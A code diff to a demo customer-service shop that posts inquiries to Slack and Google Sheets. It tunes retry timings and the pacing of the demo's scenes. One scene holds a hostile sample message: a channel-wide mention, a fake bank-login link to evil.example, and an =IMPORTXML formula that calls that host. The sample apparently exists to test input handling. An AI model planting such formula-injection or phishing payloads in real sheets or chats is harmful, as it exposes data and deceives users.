@@ -67,6 +67,9 @@ name    = "cs-alerts"
 token   = {{.Token}}
 channel = {{.SlackChannel}}
 api_url = {{.APIURL}}
+# A message that was under way when Slack stopped is looked for before it is sent again. Nobody waits a minute for a demo.
+lookups_answered   = ["1s", "2s"]
+lookups_unanswered = ["2s", "4s"]
 
 [[sink.sheets]]
 name             = "inquiries"
@@ -125,11 +128,7 @@ func (s *demoShop) writeConfig(dir, path string) error {
 // live lets the shop's day happen: the story first, then chance inquiries until lasts is over.
 func (s *demoShop) live(ctx context.Context, lasts time.Duration, w *demoWatcher) error {
 	end := time.Now().Add(lasts)
-	if err := w.pause(ctx, 1200*time.Millisecond); err != nil { // the daemon's first look
-		return err
-	}
-	story := s.story(w)
-	// No quicker than this: a chat that is closed and opened again between two polls is one opening.
+	story := s.story(ctx, w)
 	pace := max((lasts-2*time.Second)/time.Duration(len(story)), 700*time.Millisecond)
 	for _, scene := range story {
 		scene()
@@ -148,9 +147,10 @@ func (s *demoShop) live(ctx context.Context, lasts time.Duration, w *demoWatcher
 }
 
 // story is what every demo shows, a scene at a time.
-func (s *demoShop) story(w *demoWatcher) []func() {
+func (s *demoShop) story(ctx context.Context, w *demoWatcher) []func() {
 	var hong *sandbox.Customer
 	var first *sandbox.Chat
+	seen := func() bool { return len(s.rows(demoInquiries)) > 0 } // 홍길동 writes first
 	return []func(){
 		func() {
 			w.say("홍길동 님이 문의합니다")
@@ -169,6 +169,7 @@ func (s *demoShop) story(w *demoWatcher) []func() {
 			s.channel.OpenChat(bad, "<!channel> 긴급! <https://evil.example|은행 로그인> =IMPORTXML(\"https://evil.example\")", sandbox.Opening{})
 		},
 		func() {
+			w.until(ctx, seen) // a number nobody had seen before has not changed
 			w.say("홍길동 님의 휴대폰 번호가 바뀝니다")
 			hong.ChangeContact(sandbox.Contact{MobileNumber: "+821099998888", Email: "hong@example.com"})
 		},
